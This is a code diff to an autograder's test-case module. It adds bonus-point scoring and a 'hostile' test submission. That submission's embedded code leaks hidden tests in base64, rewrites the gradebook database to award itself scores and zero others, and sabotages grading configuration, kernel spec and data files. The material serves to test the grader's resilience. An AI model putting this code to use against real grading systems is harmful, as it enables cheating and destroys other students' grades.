@@ -6,9 +6,11 @@ submission is the release as is; every other case applies explicit mutations to 
 
 A case's expected autograded score is never recorded from the grader: for each notebook it
 includes, it is the notebook's total autograded points (read from the source notebook) minus the
-points of the test cells the case is designed to lose, each listed with its reason. Notebooks a
-case leaves out score 0. Grade ids are checked against the current notebooks, so a recipe that
-no longer matches the course fails loudly instead of testing nothing.
+points of the test cells the case is designed to lose, each listed with its reason; the points of
+bonus cells (``autograde/course.json``, read through :func:`autograde.layout.bonus_settings`) are
+expected in the notebook's ``bonus`` column instead. Notebooks a case leaves out score 0. Grade
+ids are checked against the current notebooks, so a recipe that no longer matches the course
+fails loudly instead of testing nothing.
 """
 
 from __future__ import annotations
@@ -23,6 +25,7 @@ from typing import Callable
 
 import nbformat
 
+from autograde.layout import BonusSettings, bonus_settings
 from autograde.notebooks import GradedCell, grade_id_of, reference_notebook
 
 # ---------------------------------------------------------------------------------------------
@@ -110,10 +113,13 @@ class Case:
     lost: dict = dataclasses.field(default_factory=dict)  # "NN/grade_id" -> reason
     blank: bool = False                     # the release as is: every test cell is lost
     packaging: str = "ipynb"                # "ipynb" (LMS files), "submit" (paysages submit zip), "hostile_zip"
-    limits: str = "normal"                  # "normal", or a key of TIGHT_LIMITS
+    limits: str = "normal"                  # "normal", ALONE, or a key of TIGHT_LIMITS
     catalogue: tuple[int, ...] = ()         # items of docs/fault-and-attack-cases.md
 
 
+# Cases graded in their own autograde call, after the others, with the normal limits: what they
+# do to the gradebook and the grading files is then theirs alone.
+ALONE = "alone"
 # Limits for the cases that must hit a time limit (graded in their own autograde call).
 TIGHT_LIMITS = {
     "cell": {"cell_timeout_seconds": 12, "notebook_timeout_seconds": 120},
@@ -282,6 +288,45 @@ def train_classifier(model, data, *, num_epochs, batch_size, callbacks=()):
 '''
 
 
+HOSTILE_IMBALANCE_RATIO = '''
+import base64
+import json
+import pathlib
+import sqlite3
+
+
+def imbalance_ratio(counts):
+    """Return the imbalance ratio (wrong: always 1)."""
+    return 1.0
+
+
+_course = pathlib.Path.cwd().parents[2]  # The kernel runs in autograded/<student>/<assignment>/.
+# Print the source notebook, hidden tests included, encoded so that no line of it shows as such.
+_source = next((_course / "source").glob("*/00_*.ipynb")).read_bytes()
+print("LEAK:" + base64.b64encode(_source).decode("ascii")[:4000])
+# Every point by hand for this submission, none for the others.
+_own = ("SELECT grade.id FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id "
+        "JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
+        "WHERE submitted_assignment.student_id = 'hostile'")
+with sqlite3.connect(str(_course / "gradebook.db"), timeout=60) as _database:
+    _database.execute(f"UPDATE grade SET auto_score = 0, manual_score = 0 WHERE id NOT IN ({_own})")
+    _database.execute(f"UPDATE grade SET manual_score = 99 WHERE id IN ({_own})")
+    _database.execute("UPDATE comment SET manual_comment = 'pwned'")
+# Break the grading of whatever comes next: configuration, settings, kernel spec, data.
+with open(_course / "nbgrader_config.py", "a", encoding="utf-8") as _config:
+    _config.write("\\nc.Execute.timeout = 1\\n")
+(_course / "grading" / "jupyter_config" / "nbgrader_config.py").write_text("c.Execute.timeout = 1\\n")
+_spec = _course / "grading" / "jupyter" / "kernels" / "paysages-grading" / "kernel.json"
+_spec.write_text(json.dumps({"argv": ["false"], "display_name": "broken", "language": "python"}))
+_settings_path = _course / "paysages_grading.json"
+_settings = json.loads(_settings_path.read_text())
+_settings["cell_timeout_seconds"] = 1
+_settings_path.write_text(json.dumps(_settings))
+for _image in sorted((_course / "grading" / "data").rglob("*.jpg"))[:2]:
+    _image.write_bytes(b"poisoned")
+'''
+
+
 def _lost_all(reason: str) -> dict:
     return {"*": reason}
 
@@ -348,6 +393,11 @@ CASES = (
          mutations=(replace_source("00", "class_counts", UNINTERRUPTIBLE_CLASS_COUNTS),),
          lost={"00/*": "the notebook's wall-clock limit kills nbgrader and the kernel: 00 scores 0"},
          limits="wallclock", catalogue=(9,)),
+    Case("hostile", "a wrong imbalance_ratio whose cell prints the hidden tests (base64), gives itself manual "
+         "scores, zeroes everybody else's grades and breaks the grading files and data", ("00",),
+         mutations=(replace_source("00", "imbalance_ratio", HOSTILE_IMBALANCE_RATIO),),
+         lost={"00/test_imbalance_ratio": "imbalance_ratio is wrong; its manual score of 99 is undone"},
+         limits=ALONE),
 )
 
 
@@ -368,8 +418,11 @@ def included_notebooks(case: Case, notebook_names: list[str]) -> list[str]:
     return [resolve(prefix, notebook_names) for prefix in case.notebooks]
 
 
-def expected_scores(case: Case, cells: list[GradedCell], notebook_names: list[str]) -> dict[str, float]:
-    """notebook -> expected autograded points, derived from the notebooks and the case's losses."""
+def expected_scores(case: Case, cells: list[GradedCell], notebook_names: list[str],
+                    bonus: BonusSettings | None = None) -> dict[str, dict[str, float]]:
+    """notebook -> {"auto", "bonus"}: the expected autograded points, derived from the notebooks
+    and the case's losses; bonus cells' points count in "bonus", never in "auto"."""
+    bonus = bonus or bonus_settings()
     auto = [cell for cell in cells if cell.kind == "auto"]
     known = {f"{cell.notebook}/{cell.grade_id}" for cell in auto}
     included = included_notebooks(case, notebook_names)
@@ -390,11 +443,12 @@ def expected_scores(case: Case, cells: list[GradedCell], notebook_names: list[st
         lost_keys.add(full)
     expected = {}
     for name in notebook_names:
+        expected[name] = {"auto": 0.0, "bonus": 0.0}
         if name not in included or name in whole_notebooks:
-            expected[name] = 0.0
             continue
-        expected[name] = sum(cell.points for cell in auto
-                             if cell.notebook == name and f"{name}/{cell.grade_id}" not in lost_keys)
+        for cell in auto:
+            if cell.notebook == name and f"{name}/{cell.grade_id}" not in lost_keys:
+                expected[name]["bonus" if bonus.is_bonus(name, cell.grade_id) else "auto"] += cell.points
     return expected
 
 
